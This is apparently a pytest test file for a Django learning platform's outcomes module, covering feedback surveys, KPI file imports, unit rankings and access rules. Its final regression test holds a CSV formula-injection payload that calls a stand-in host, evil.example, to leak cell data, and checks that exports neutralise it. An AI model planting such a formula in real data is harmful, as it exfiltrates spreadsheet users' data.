"""Course feedback and CX outcomes: the rules, the import, the pages and who may see them."""

from __future__ import annotations

import datetime
import io
from decimal import Decimal

import pytest
import time_machine
from openpyxl import Workbook

from django.contrib.auth.models import Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from accounts import roles
from accounts.factories import UserFactory
from assignments.models import Assignment
from champions.models import ChampionProfile, CoachingGroup, Membership
from curriculum.models import CourseEnrolment
from outcomes import services
from outcomes.importing import line_ranges, read_figures
from outcomes.models import CourseFeedback, FeedbackReceipt, FigureUpload, Metric, MetricValue
from people.models import Department, EmployeeProfile, Location

pytestmark = pytest.mark.django_db

TODAY = datetime.date(2026, 6, 15)


@pytest.fixture(autouse=True)
def german():
    from django.utils import translation

    with translation.override("de"):
        yield


@pytest.fixture
def finished(learner, tree):
    """The learner has completed the course."""
    CourseEnrolment.objects.create(user=learner, course=tree.course, completed_at=timezone.now())
    return tree.course


def answer(client, course, **data):
    payload = {"rating": 4, "recommend": 9, "change_tomorrow": "", "comment": ""} | data
    return client.post(reverse("outcomes:feedback_answer", args=[course.pk]), payload)


# The rules --------------------------------------------------------------------------------


def test_course_nps_is_promoters_minus_detractors():
    # 3 promoters (9, 10, 9), 2 passives (7, 8), 5 detractors (0–6) of 10 → 30 % − 50 %
    assert services.net_promoter_score([9, 10, 9, 7, 8, 0, 3, 6, 6, 5]) == -20
    assert services.net_promoter_score([10, 10]) == 100
    assert services.net_promoter_score([]) is None


def test_themes_count_each_answer_once_and_prefer_phrases():
    texts = [
        "Anliegen zusammenfassen, Anliegen zusammenfassen, Anliegen zusammenfassen!",
        "Ich will das Anliegen zusammenfassen",
        "Beschwerde ernst nehmen",
    ]
    found = services.themes(texts, "de")
    assert found[0] == ("anliegen zusammenfassen", 2)
    assert ("anliegen", 2) not in found  # covered by the phrase
    assert all(term not in {"ich", "das", "will"} for term, _n in found)
    assert not any(term.startswith("beschwerde") for term, _n in found)  # said only once


def test_pearson_on_a_known_data_set():
    assert services.pearson([1, 2, 3, 4], [2, 4, 6, 8]) == 1.0
    assert services.pearson([1, 2, 3, 4], [8, 6, 4, 2]) == -1.0
    assert services.pearson([10, 20, 30], [1, 3, 2]) == 0.5
    assert services.pearson([1, 2], [1, 2]) is None  # fewer than three pairs
    assert services.pearson([1, 1, 1], [1, 2, 3]) is None  # no spread


def test_line_ranges_fold_consecutive_lines():
    assert line_ranges([7, 2, 3, 4, 4]) == "2–4, 7"


# Course feedback: once per completion, anonymous, shown only in aggregate -----------------


def test_survey_is_asked_once_and_stores_no_name(client_as, learner, finished):
    client = client_as(learner)
    page = client.get(reverse("outcomes:feedback_answer", args=[finished.pk]))
    assert page.status_code == 200
    assert "Wie nützlich war dieser Kurs" in page.content.decode()
    assert "Rückmeldung geben" in client.get(finished.url).content.decode()

    response = answer(client, finished, change_tomorrow="Anliegen zusammenfassen")
    assert response.status_code == 302
    feedback = CourseFeedback.objects.get()
    assert (feedback.rating, feedback.recommend, feedback.language) == (4, 9, "de")
    assert not any(f.name == "user" for f in CourseFeedback._meta.fields)
    assert FeedbackReceipt.objects.get().user == learner

    answer(client, finished, rating=1)  # a second answer is ignored
    assert CourseFeedback.objects.count() == 1
    assert "Rückmeldung geben" not in client.get(finished.url).content.decode()


def test_survey_not_offered_before_the_course_is_finished(client_as, learner, tree):
    client = client_as(learner)
    response = client.get(reverse("outcomes:feedback_answer", args=[tree.course.pk]))
    assert response.status_code == 302
    answer(client, tree.course)
    assert not CourseFeedback.objects.exists()


def test_declining_stops_the_question(client_as, learner, finished):
    client = client_as(learner)
    client.post(reverse("outcomes:feedback_answer", args=[finished.pk]), {"decline": "1"})
    assert not CourseFeedback.objects.exists()
    assert FeedbackReceipt.objects.get(user=learner).answered is False
    assert not services.feedback_due(learner, finished)


def test_survey_rejects_a_rating_outside_the_scale(client_as, learner, finished):
    response = answer(client_as(learner), finished, rating=9)
    assert response.status_code == 200
    assert "errorlist" in response.content.decode()
    assert not CourseFeedback.objects.exists()
    assert services.feedback_due(learner, finished)  # nothing lost: still asked


def _answers(course, count, recommend=10, text="Anliegen zusammenfassen"):
    month = services.first_of_month(timezone.localdate())
    CourseFeedback.objects.bulk_create(
        CourseFeedback(
            course=course,
            language="de",
            month=month,
            rating=4,
            recommend=recommend,
            change_tomorrow=text,
        )
        for _ in range(count)
    )


def test_nothing_is_shown_below_the_minimum_group(client_as, hr_user, tree):
    _answers(tree.course, 4)
    client = client_as(hr_user)
    page = client.get(reverse("outcomes:feedback_course", args=[tree.course.pk])).content.decode()
    assert 'data-testid="feedback-suppressed"' in page
    assert 'data-stat="rating"' not in page and "zusammenfassen" not in page
    overview = client.get(reverse("outcomes:feedback_overview")).content.decode()
    assert "weniger als 5 Antworten" in overview

    _answers(tree.course, 1, recommend=3)
    page = client.get(reverse("outcomes:feedback_course", args=[tree.course.pk])).content.decode()
    assert 'data-stat="rating">4,0<' in page
    assert 'data-stat="nps">60<' in page  # 4 promoters, 1 detractor of 5
    assert "anliegen zusammenfassen" in page


# Reading figure files ----------------------------------------------------------------------


@pytest.fixture
def units(db):
    return {
        "hamburg": Location.objects.create(name="Hamburg"),
        "muenchen": Location.objects.create(name="München"),
        "service": Department.objects.create(name="Kundenservice"),
    }


def test_german_excel_csv_with_semicolons_and_decimal_commas(units):
    content = (
        "Monat;Standort;NPS;CSAT;Beschwerden je 1.000 Kontakte\r\n"
        "03.2025;Hamburg;42,5;81;1.234,5\r\n"
        "01.04.2025;München;-3;79,25;\r\n"
    ).encode("cp1252")
    rows, errors = read_figures(content, "kpi.csv")
    assert errors == []
    values = {(Metric.objects.get(pk=r["metric"]).code, r["month"]): r["value"] for r in rows}
    assert values == {
        ("nps", "2025-03-01"): "42.50",
        ("csat", "2025-03-01"): "81.00",
        ("complaints", "2025-03-01"): "1234.50",
        ("nps", "2025-04-01"): "-3.00",
        ("csat", "2025-04-01"): "79.25",
    }


def test_long_layout_utf16_with_tabs(units):
    content = "Month\tDepartment\tMetric\tValue\n2025-05\tKundenservice\tCSAT\t80.5\n".encode(
        "utf-16"
    )
    rows, errors = read_figures(content, "kpi.txt")
    assert errors == []
    assert rows == [
        {
            "line": 2,
            "metric": Metric.objects.get(code="csat").pk,
            "department": units["service"].pk,
            "month": "2025-05-01",
            "value": "80.50",
        }
    ]


def test_xlsx_with_real_dates_and_numbers(units):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["Monat", "Standort", "NPS"])
    sheet.append([datetime.datetime(2025, 6, 1), "hamburg", 37.456])
    handle = io.BytesIO()
    workbook.save(handle)
    rows, errors = read_figures(handle.getvalue(), "kpi.xlsx")
    assert errors == []
    assert (rows[0]["month"], rows[0]["value"], rows[0]["location"]) == (
        "2025-06-01",
        "37.46",
        units["hamburg"].pk,
    )


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "Die Datei ist leer."),
        (b"Monat;Standort;Umsatz\n03.2025;Hamburg;5\n", "Unbekannte Spalte „umsatz“"),
        (b"Standort;NPS\nHamburg;5\n", "Eine Spalte „Monat“"),
        (b"Monat;Standort;NPS\n13.2025;Hamburg;5\n", "Monat nicht verstanden"),
        (b"Monat;Standort;NPS\n03.2025;Hamburg;viel\n", "„viel“ ist keine Zahl"),
        (b"Monat;Standort;NPS\n03.2025;Bremen;5\n", "Unbekannter Standort „Bremen“"),
        (b"Monat;Standort;NPS\n03.2025;Hamburg;5\n2025-03;Hamburg;6\n", "zweimal"),
        (b"Monat;Standort;NPS\n03.2025;;5\n", "entweder einen Standort oder eine Abteilung"),
        (b"PK\x03\x04broken", "Excel-Datei konnte nicht geöffnet werden"),
    ],
)
def test_bad_files_are_refused_with_a_clear_message(units, content, message):
    rows, errors = read_figures(content, "kpi.csv")
    assert rows == []
    assert any(message in error["message"] for error in errors), errors


def test_one_bad_line_in_a_big_file_saves_nothing_and_errors_are_grouped(client_as, hr_user, units):
    lines = ["Monat;Standort;NPS"] + [f"{m:02d}.2025;Hamburg;{m}" for m in range(1, 13)]
    lines += ["01.2024;Filiale Nord;1", "02.2024;Filiale Nord;1", "05.2024;Filiale Nord;1"]
    upload = SimpleUploadedFile("kpi.csv", "\n".join(lines).encode())
    client = client_as(hr_user)
    response = client.post(reverse("outcomes:figures"), {"file": upload}, follow=True)
    page = response.content.decode()
    assert "Unbekannter Standort „Filiale Nord“ – 3 Zeilen: 14–16" in page
    record = FigureUpload.objects.get()
    assert client.post(reverse("outcomes:figure_upload", args=[record.pk])).status_code == 302
    assert not MetricValue.objects.exists()


def test_upload_preview_then_apply_then_reimport_changes(client_as, hr_user, units):
    client = client_as(hr_user)

    def upload(text):
        client.post(reverse("outcomes:figures"), {"file": SimpleUploadedFile("k.csv", text)})
        return FigureUpload.objects.latest("pk")

    first = upload(b"Monat;Standort;NPS;CSAT\n03.2025;Hamburg;10;80\n")
    page = client.get(reverse("outcomes:figure_upload", args=[first.pk])).content.decode()
    assert "2 neue Werte, 0 geänderte Werte, 0 unverändert" in page
    assert not MetricValue.objects.exists()  # nothing before confirming
    client.post(reverse("outcomes:figure_upload", args=[first.pk]))
    assert MetricValue.objects.count() == 2

    second = upload(b"Monat;Standort;NPS;CSAT\n03.2025;Hamburg;12;80\n")
    page = client.get(reverse("outcomes:figure_upload", args=[second.pk])).content.decode()
    assert "0 neue Werte, 1 geänderte Werte, 1 unverändert" in page
    client.post(reverse("outcomes:figure_upload", args=[second.pk]))
    assert MetricValue.objects.get(metric__code="nps").value == Decimal("12.00")
    assert MetricValue.objects.count() == 2
    client.post(reverse("outcomes:figure_upload", args=[second.pk]))  # applying twice: refused
    assert MetricValue.objects.count() == 2


def test_hr_adds_a_custom_figure_and_a_duplicate_code_is_refused(client_as, hr_user, units):
    client = client_as(hr_user)
    data = {
        "code": "first-call",
        "name_de": "Erstlösungsquote",
        "name_en": "First-call resolution",
        "unit": "%",
        "higher_is_better": "on",
    }
    assert client.post(reverse("outcomes:metric_create"), data).status_code == 302
    assert client.post(reverse("outcomes:metric_create"), data).status_code == 400
    rows, errors = read_figures(
        "Monat;Standort;Erstlösungsquote\n03.2025;Hamburg;71\n".encode(), "k.csv"
    )
    assert errors == [] and rows[0]["metric"] == Metric.objects.get(code="first-call").pk


# Side by side ------------------------------------------------------------------------------


def _staff(unit_kind, unit, count, manager=None):
    people = []
    for _n in range(count):
        user = UserFactory(roles=[roles.LEARNER])
        EmployeeProfile.objects.create(user=user, manager=manager, **{unit_kind: unit})
        people.append(user)
    return people


@pytest.fixture
def side_by_side(tree, units):
    """Hamburg: 6 people, all assigned in January, 3 done by end of March, 6 by April;
    2 in a coaching group from February. München: 5 people, 1 done. Bremen: 2 people."""
    with time_machine.travel(datetime.datetime(2026, 1, 10, 12, tzinfo=datetime.UTC)):
        hamburg = _staff("location", units["hamburg"], 6)
        muenchen = _staff("location", units["muenchen"], 5)
        bremen_unit = Location.objects.create(name="Bremen")
        _staff("location", bremen_unit, 2)
        for user in hamburg + muenchen:
            Assignment.objects.create(
                user=user, course=tree.course, due_date=datetime.date(2026, 6, 30)
            )
    done = {
        **{user: datetime.datetime(2026, 3, 20, tzinfo=datetime.UTC) for user in hamburg[:3]},
        **{user: datetime.datetime(2026, 4, 2, tzinfo=datetime.UTC) for user in hamburg[3:]},
        muenchen[0]: datetime.datetime(2026, 2, 2, tzinfo=datetime.UTC),
    }
    for user, when in done.items():
        CourseEnrolment.objects.create(user=user, course=tree.course, completed_at=when)
    champion_user = UserFactory(roles=[roles.CHAMPION])
    profile = ChampionProfile.objects.create(user=champion_user, status="active")
    group = CoachingGroup.objects.create(
        champion=profile, name="Hotline", start_date=datetime.date(2026, 2, 1)
    )
    for user in hamburg[:2]:
        Membership.objects.create(group=group, user=user)
    Membership.objects.filter(group=group).update(joined_on=datetime.date(2026, 2, 1))
    nps = Metric.objects.get(code="nps")
    for unit, values in (("hamburg", [10, 14, 19]), ("muenchen", [20, 20, 21])):
        for month, value in zip((1, 2, 3), values, strict=True):
            MetricValue.objects.create(
                metric=nps, location=units[unit], month=datetime.date(2026, month, 1), value=value
            )
    return {"hamburg": hamburg, "muenchen": muenchen, "bremen": bremen_unit}


def test_monthly_table_numbers_on_a_known_data_set(side_by_side, units, django_assert_num_queries):
    months = [datetime.date(2026, m, 1) for m in (1, 2, 3, 4)]
    locations = [units["hamburg"], units["muenchen"], side_by_side["bremen"]]
    with django_assert_num_queries(4):
        table = services.monthly_table("location", locations, months)
    hamburg = table[units["hamburg"].pk]
    assert [row.completion for row in hamburg] == [0, 0, 50, 100]
    assert [row.coverage for row in hamburg] == [0, 33, 33, 33]
    assert [row.figures[Metric.objects.get(code="nps").pk] for row in hamburg][:3] == [10, 14, 19]
    assert [row.completion for row in table[units["muenchen"].pk]] == [0, 20, 20, 20]
    bremen = table[side_by_side["bremen"].pk]
    assert all(row.completion is None and row.coverage is None for row in bremen)
    assert bremen[0].suppressed


def test_ranking_orders_by_improvement_and_correlates(side_by_side, units):
    months = [datetime.date(2026, m, 1) for m in (1, 2, 3)]
    metric = Metric.objects.get(code="nps")
    ranked, r = services.ranking("location", [units["muenchen"], units["hamburg"]], metric, months)
    assert [row.unit.name for row in ranked] == ["Hamburg", "München"]
    assert [row.change for row in ranked] == [9, 1]
    assert r is None  # two units are too few for a correlation


def test_lower_is_better_figures_rank_falling_values_first(units):
    complaints = Metric.objects.get(code="complaints")
    for unit, (start, end) in (("hamburg", (9, 5)), ("muenchen", (6, 7))):
        for month, value in ((1, start), (2, end)):
            MetricValue.objects.create(
                metric=complaints,
                location=units[unit],
                month=datetime.date(2026, month, 1),
                value=value,
            )
    ranked, _r = services.ranking(
        "location",
        [units["muenchen"], units["hamburg"]],
        complaints,
        [datetime.date(2026, 1, 1), datetime.date(2026, 2, 1)],
    )
    assert [row.unit.name for row in ranked] == ["Hamburg", "München"]


# Who sees what ----------------------------------------------------------------------------


@time_machine.travel(datetime.datetime(2026, 4, 20, 12, tzinfo=datetime.UTC))
def test_hr_sees_every_unit_and_exports_the_table(client_as, hr_user, side_by_side, units):
    client = client_as(hr_user)
    page = client.get(
        reverse("outcomes:overview")
        + "?kind=location&metric="
        + str(Metric.objects.get(code="nps").pk)
        + "&months=6"
    ).content.decode()
    assert "Hamburg" in page and "München" in page and "Bremen" in page
    assert "Korrelation ist keine Ursache" in page
    unit_page = client.get(reverse("outcomes:unit", args=["location", units["hamburg"].pk]))
    assert unit_page.status_code == 200
    assert "<svg" in unit_page.content.decode()
    export = client.get(
        reverse("outcomes:unit_export", args=["location", units["hamburg"].pk, "csv"]) + "?months=6"
    )
    text = b"".join(export.streaming_content).decode("utf-8-sig")
    assert text.splitlines()[0].startswith("Monat;Einheit;Schulungsabschluss %")
    assert "2026-03;Hamburg;50;33;" in text


def test_manager_sees_only_the_units_of_their_reports(client, side_by_side, units):
    manager = UserFactory(roles=[roles.LEARNER])
    EmployeeProfile.objects.filter(user=side_by_side["hamburg"][0]).update(manager=manager)
    client.force_login(manager)
    page = client.get(reverse("outcomes:overview")).content.decode()
    assert "Hamburg" in page and "München" not in page
    own = reverse("outcomes:unit", args=["location", units["hamburg"].pk])
    other = reverse("outcomes:unit", args=["location", units["muenchen"].pk])
    assert client.get(own).status_code == 200
    assert client.get(other).status_code == 404
    assert client.get(reverse("outcomes:figures")).status_code == 403


def test_operations_lead_with_the_permission_sees_all_units(client, units):
    lead = UserFactory(roles=[roles.LEARNER])
    lead.user_permissions.add(Permission.objects.get(codename="view_outcomes"))
    client.force_login(lead)
    page = client.get(reverse("outcomes:overview")).content.decode()
    assert "Hamburg" in page and "München" in page


@pytest.mark.parametrize(
    ("url_name", "args", "method"),
    [
        ("outcomes:overview", [], "get"),
        ("outcomes:figures", [], "get"),
        ("outcomes:figures", [], "post"),
        ("outcomes:metric_create", [], "post"),
        ("outcomes:feedback_overview", [], "get"),
    ],
)
def test_learners_and_champions_are_refused(client, learner, champion, url_name, args, method):
    url = reverse(url_name, args=args)
    assert getattr(client, method)(url).status_code == 302  # anonymous: to log-in
    for user in (learner, champion):
        client.force_login(user)
        assert getattr(client, method)(url).status_code == 403


def test_editors_see_feedback_but_not_outcomes(client_as, editor, tree):
    client = client_as(editor)
    assert client.get(reverse("outcomes:feedback_overview")).status_code == 200
    assert client.get(reverse("outcomes:feedback_course", args=[tree.course.pk])).status_code == 200
    assert client.get(reverse("outcomes:overview")).status_code == 403


def test_the_sample_file_in_the_readme_reads_cleanly(units):
    from pathlib import Path

    sample = Path(__file__).resolve().parents[2] / "outcomes/samples/kennzahlen.csv"
    rows, errors = read_figures(sample.read_bytes(), sample.name)
    assert errors == []
    assert len(rows) == 16  # 4 rows × 4 figures


def test_the_unit_export_never_carries_a_live_formula(client_as, hr_user):
    """Regression for every export, not only the HR reports: a unit named like a formula is text
    in the CSV (quoted with ') and a string cell in the XLSX."""
    from openpyxl import load_workbook

    attack = '=HYPERLINK("https://evil.example/?x="&A2,"Details")'
    unit = Location.objects.create(name=attack)
    client = client_as(hr_user)
    url = reverse("outcomes:unit_export", args=["location", unit.pk, "csv"]) + "?months=3"
    text = b"".join(client.get(url).streaming_content).decode("utf-8-sig")
    rows = text.splitlines()[1:]
    assert rows and all(";\"'=HYPERLINK(" in row for row in rows)
    assert ';"=HYPERLINK' not in text and ";=HYPERLINK" not in text
    url = reverse("outcomes:unit_export", args=["location", unit.pk, "xlsx"]) + "?months=3"
    sheet = load_workbook(io.BytesIO(b"".join(client.get(url).streaming_content))).active
    names = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert names and all(cell.data_type == "s" for cell in names)
    assert all(cell.value.lstrip("'") == attack for cell in names)
